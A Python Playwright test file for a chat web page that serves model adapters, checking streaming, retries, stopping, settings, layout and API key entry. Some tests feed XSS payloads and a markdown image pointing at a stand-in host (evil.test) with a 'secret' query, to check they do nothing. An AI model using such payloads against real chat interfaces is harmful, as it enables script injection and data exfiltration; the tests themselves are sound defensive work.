"""The browser page in a real, headless Chromium: once before the real server, else before one that fails on demand."""

from __future__ import annotations

import os
import re
import shlex
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from fake_api import KEY, FakeApi, start_fake_api
from playwright.sync_api import Browser, BrowserContext, Locator, Page, Request, expect, sync_playwright
from road import ServedRoad

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
CHROMIUM_OPTIONS = (
    "--no-sandbox --disable-gpu --disable-quic --no-first-run "
    "--disable-background-networking --disable-component-update --disable-sync"
)
WAIT_MS = 30_000
"""how long anything may take on a busy machine; what is there sooner is not waited for"""
PHONE: Any = {"width": 390, "height": 844}

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="NO BROWSER: chromium is not installed, the page is UNTESTED")


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    expect.set_options(timeout=WAIT_MS)
    with sync_playwright() as playwright:
        yield playwright.chromium.launch(executable_path=CHROMIUM, args=shlex.split(CHROMIUM_OPTIONS))


@pytest.fixture(scope="module")
def profile(browser: Browser) -> Iterator[BrowserContext]:
    """One profile for all tests: its cache spares each of them a second of loading."""
    with browser.new_context(viewport={"width": 1280, "height": 860}) as context:
        context.set_default_timeout(WAIT_MS)
        yield context


@pytest.fixture(scope="module")
def running() -> Iterator[FakeApi]:
    with start_fake_api(page=True) as api:
        yield api


@pytest.fixture
def api(running: FakeApi) -> FakeApi:
    running.forget()
    return running


@pytest.fixture
def open_page(profile: BrowserContext) -> Iterator[Callable[..., Page]]:
    """Opens the page of a server; in the end no script may have failed, and nothing been asked of another host."""
    pages: list[Page] = []
    asked: list[Request] = []
    blocked: list[Request] = []
    failures: list[str] = []

    def open_at(url: str, query: str = "", *, context: BrowserContext = profile) -> Page:
        page = context.new_page()
        pages.append(page)
        page.on("request", lambda request: asked.append(request))
        page.on("requestfailed", lambda request: blocked.append(request) if request.failure == "csp" else None)
        page.on("pageerror", lambda error: failures.append(str(error)))
        page.goto(f"{url}/ui{query}")
        expect(box(page)).to_be_visible()
        return page

    yield open_at
    hosts = {urlsplit(page.url).netloc for page in pages}
    for page in pages:
        page.close()
    assert failures == []
    assert {urlsplit(request.url).netloc for request in asked if request not in blocked} - {""} <= hosts


@pytest.fixture
def page(open_page: Callable[..., Page], api: FakeApi) -> Page:
    """The page before the fake API, ready to ask its adapter `captain`."""
    page = open_page(api.url, "?adapter=captain")
    expect(picker(page)).to_have_value("captain")
    return page


def box(page: Page) -> Locator:
    return page.get_by_role("textbox", name="Message")


def picker(page: Page) -> Locator:
    return page.get_by_role("combobox", name="Adapter")


def note(page: Page, text: str | re.Pattern[str]) -> Locator:
    """A line between the turns: who answered, or what went wrong."""
    return page.locator("#chat .thought-group").filter(has_text=text)


def pick(page: Page, name: str) -> None:
    picker(page).click()
    page.get_by_role("option", name=name).click()
    expect(picker(page)).to_have_value(name)


def ask(page: Page, question: str) -> None:
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    expect(page.get_by_role("button", name="Retry", disabled=True)).to_have_count(0)
    box(page).fill(question)
    box(page).press("Enter")
    expect(box(page)).to_have_value("")


def ask_and_wait(page: Page, question: str, model: str = "captain") -> None:
    ask(page, question)
    expect(page.locator("#chat .bot").get_by_text(f"{model} says: {question}", exact=True)).to_be_visible()
    expect(page.get_by_role("button", name="Retry")).to_be_enabled()


def wait_for_requests(page: Page, condition: str) -> None:
    """Wait until what the fake has seen (`requests`) meets a condition in JavaScript."""
    page.wait_for_function(
        f"async () => {{ const requests = await (await fetch('/fake/requests')).json(); return {condition} }}"
    )


def sent(api: FakeApi) -> list[dict[str, str]]:
    """The messages of the last request."""
    return list(api.requests()[-1]["body"]["messages"])


def test_real_answer_streams_into_the_page(served: ServedRoad, open_page: Callable[..., Page], tmp_path: Path) -> None:
    page = open_page(served.url, "?adapter=captain")
    expect(picker(page)).to_have_value("captain")
    expect(page.locator("#card")).to_contain_text("sha256:")
    page.evaluate(
        """() => {
            window.seen = new Set();
            new MutationObserver(() => {
                const answers = document.querySelectorAll("#chat .bot .message:not(.thought) .message-content");
                answers.forEach((answer) => window.seen.add(answer.textContent.trim()));
            }).observe(document.querySelector("#chat"), { subtree: true, childList: true, characterData: true });
        }"""
    )
    ask(page, "Tell me a long story about a storm at sea.")
    expect(note(page, re.compile(r"captain · \d+\.\d tok/s · .+ to first token"))).to_be_visible()
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    assert len(page.evaluate("() => [...window.seen].filter(Boolean)")) >= 3
    page.screenshot(path=Path(os.environ.get("ADAPTERHUB_SCREENSHOTS", tmp_path)) / "chat.png")


def test_switching_the_adapter_sends_the_turns_but_no_notes(page: Page, api: FakeApi) -> None:
    ask_and_wait(page, "one")
    pick(page, "trivia")
    ask_and_wait(page, "two", "trivia")
    assert api.requests()[-1]["body"]["model"] == "trivia"
    assert [message["content"] for message in sent(api)] == ["one", "captain says: one", "two"]
    expect(note(page, "captain · ")).to_have_count(1)
    expect(note(page, "trivia · ")).to_have_count(1)


@pytest.mark.parametrize(
    ("question", "said"),
    [
        ("404", "the model 'captain' does not exist here"),
        ("500", "the server failed unexpectedly"),
        ("drop", "broke before the answer was complete"),
        ("error event", "the engine stopped."),
    ],
)
def test_failure_is_a_message_that_can_be_retried(page: Page, api: FakeApi, question: str, said: str) -> None:
    ask(page, question)
    expect(note(page, "captain could not answer")).to_contain_text(said)
    expect(box(page)).to_be_enabled()
    page.get_by_role("button", name="Retry").click()
    wait_for_requests(page, "requests.length == 2")
    assert sent(api) == [{"role": "user", "content": question}]


def test_answer_after_a_retry_takes_the_place_of_the_failure(page: Page, api: FakeApi) -> None:
    ask(page, "500 once")
    expect(note(page, "captain could not answer")).to_be_visible()
    page.get_by_role("button", name="Retry").click()
    expect(note(page, "captain · ")).to_be_visible()
    expect(note(page, "could not answer")).to_have_count(0)
    ask_and_wait(page, "next")
    assert [message["content"] for message in sent(api)] == ["500 once", "captain says: 500 once", "next"]


@pytest.mark.parametrize("how", ["button", "Escape"])
def test_stop_cancels_upstream_and_keeps_what_came(page: Page, api: FakeApi, how: str) -> None:
    ask(page, "slow")
    expect(page.locator("#chat .bot").filter(has_text="and 3")).to_be_visible()
    page.keyboard.press(how) if how == "Escape" else page.get_by_role("button", name="Stop").click()
    expect(note(page, "captain · stopped")).to_be_visible()
    wait_for_requests(page, "requests[0].is_cancelled")
    ask_and_wait(page, "next")
    assert sent(api)[1]["content"].startswith("captain says: slow and 0 and 1 and 2 and 3")


def test_closing_the_page_cancels_upstream(page: Page, api: FakeApi, open_page: Callable[..., Page]) -> None:
    other = open_page(api.url)
    ask(page, "slow")
    expect(page.locator("#chat .bot").filter(has_text="and 3")).to_be_visible()
    page.close()
    wait_for_requests(other, "requests[0].is_cancelled")


def test_enter_while_an_answer_comes_leaves_the_text_in_the_box(page: Page, api: FakeApi) -> None:
    ask(page, "slow")
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    box(page).fill("next")
    box(page).press("Enter")
    box(page).press("Escape")
    expect(note(page, "captain · stopped")).to_be_visible()
    expect(box(page)).to_have_value("next")
    assert len(api.requests()) == 1


def test_empty_message_is_not_sent(page: Page, api: FakeApi) -> None:
    ask(page, " ")
    ask_and_wait(page, "one")
    assert len(api.requests()) == 1


def test_ctrl_k_goes_to_the_adapters(page: Page) -> None:
    box(page).press("Control+k")
    expect(picker(page)).to_be_focused()


def test_undo_gives_the_question_back(page: Page, api: FakeApi) -> None:
    ask_and_wait(page, "one")
    ask_and_wait(page, "two")
    page.get_by_role("button", name="Undo").click()
    expect(box(page)).to_have_value("two")
    expect(page.get_by_text("captain says: two")).to_have_count(0)
    ask_and_wait(page, "three")
    assert [message["content"] for message in sent(api)] == ["one", "captain says: one", "three"]


def test_edited_question_is_asked_instead(page: Page, api: FakeApi) -> None:
    ask_and_wait(page, "one")
    ask_and_wait(page, "two")
    page.get_by_role("button", name="Edit").first.click()
    page.locator("#chat textarea").fill("uno")
    page.get_by_role("button", name="Submit").click()
    expect(page.get_by_text("captain says: uno", exact=True)).to_be_visible()
    assert [message["content"] for message in sent(api)] == ["uno"]


def test_clear_starts_anew(page: Page, api: FakeApi) -> None:
    ask_and_wait(page, "one")
    page.get_by_role("button", name="Clear").click()
    expect(page.get_by_text("captain says: one")).to_have_count(0)
    ask_and_wait(page, "two")
    assert [message["content"] for message in sent(api)] == ["two"]


def test_settings_are_sent(page: Page, api: FakeApi) -> None:
    page.get_by_role("button", name="Settings").click()
    page.get_by_role("textbox", name="System prompt").fill("Be brief.")
    page.get_by_role("spinbutton", name="Temperature").fill("0")
    page.get_by_role("spinbutton", name="Max tokens").fill("9")
    ask_and_wait(page, "one")
    body = api.requests()[0]["body"]
    assert body["messages"][0] == {"role": "system", "content": "Be brief."}
    assert (body["temperature"], body["top_p"], body["max_tokens"]) == (0, 0.9, 9)


def test_indentation_of_an_answer_is_kept(page: Page, api: FakeApi) -> None:
    ask(page, "one\n    two")
    expect(note(page, "tok/s")).to_be_visible()
    ask_and_wait(page, "next")
    assert sent(api)[1]["content"] == "captain says: one\n    two"


@pytest.mark.parametrize(
    "payload", ["<img src=x onerror='hacked = 1'>", "<script>hacked = 2</script>", "[click](javascript:hacked=3)"]
)
def test_html_of_question_and_answer_does_nothing(page: Page, payload: str) -> None:
    ask(page, f"say {payload}")
    expect(note(page, "tok/s")).to_be_visible()
    for link in page.locator("#chat a").all():
        link.click()
    assert page.evaluate("() => window.hacked") is None


def test_picture_from_another_host_is_not_fetched(page: Page) -> None:
    ask(page, "![secret](http://evil.test/pixel.png?q=secret)")
    expect(note(page, "tok/s")).to_be_visible()
    expect(page.locator("#chat .bot img[src*='evil.test']")).to_have_count(1)
    pick(page, "trivia")
    expect(page.locator("#card")).to_contain_text("![](http://evil.test/x.png)")
    expect(page.locator("#card").get_by_role("link")).to_have_count(0)


def test_phone_shows_everything_without_scrolling_sideways(
    browser: Browser, open_page: Callable[..., Page], api: FakeApi
) -> None:
    with browser.new_context(viewport=PHONE, has_touch=True, is_mobile=True) as phone:
        page = open_page(api.url, "?adapter=captain", context=phone)
        expect(picker(page)).to_have_value("captain")
        expect(box(page)).to_be_in_viewport(ratio=1)
        ask_and_wait(page, "one " + "two" * 30)
        assert page.evaluate("() => document.documentElement.scrollWidth") == PHONE["width"]
        expect(page.get_by_role("textbox", name="System prompt")).to_be_hidden()
        expect(page.locator("#card")).to_be_hidden()


def test_card_tells_what_the_package_says(page: Page) -> None:
    card = page.locator("#card")
    for fact in ("tiny-base", "lora, rank 8", "apache-2.0", "sha256:0123456789ab", "sea_tales", "3.210", "1.090"):
        expect(card).to_contain_text(fact)


def test_picking_changes_card_and_address(page: Page) -> None:
    picker(page).click()
    options = page.get_by_role("option")
    expect(options).to_have_text([re.compile(r"tiny-base \(base\)"), re.compile("captain"), re.compile("trivia")])
    options.first.click()
    expect(page.locator("#card")).to_contain_text("The base model alone")
    expect(page).to_have_url(re.compile(r"\?adapter=tiny-base$"))


def test_deep_link_to_a_missing_adapter_is_said(open_page: Callable[..., Page], api: FakeApi) -> None:
    page = open_page(api.url, "?adapter=kaptain")
    expect(page.locator("#card")).to_contain_text("there is no adapter kaptain here")
    expect(picker(page)).to_have_value("tiny-base (base)")


def test_key_is_asked_for_and_sent(open_page: Callable[..., Page], api: FakeApi) -> None:
    page = open_page(api.keyed_url, "?adapter=captain")
    expect(page.locator("#card")).to_contain_text("the API key is missing or wrong")
    key = page.get_by_label("API key")
    assert key.get_attribute("type") == "password"
    key.fill(KEY)
    key.press("Enter")
    expect(picker(page)).to_have_value("captain")
    ask_and_wait(page, "one")


def test_controls_have_names_and_none_is_too_many(page: Page) -> None:
    page.get_by_role("button", name="Settings").click()
    ask_and_wait(page, "one")
    expect(page.get_by_role("button", name=re.compile("share", re.IGNORECASE))).to_have_count(0)
    expect(page.get_by_label("API key")).to_have_count(0)
    expect(page.get_by_role("heading", level=1)).to_have_text("adapterhub")
    for name in ("Temperature", "Top-p", "Max tokens"):
        expect(page.get_by_role("spinbutton", name=name)).to_be_visible()
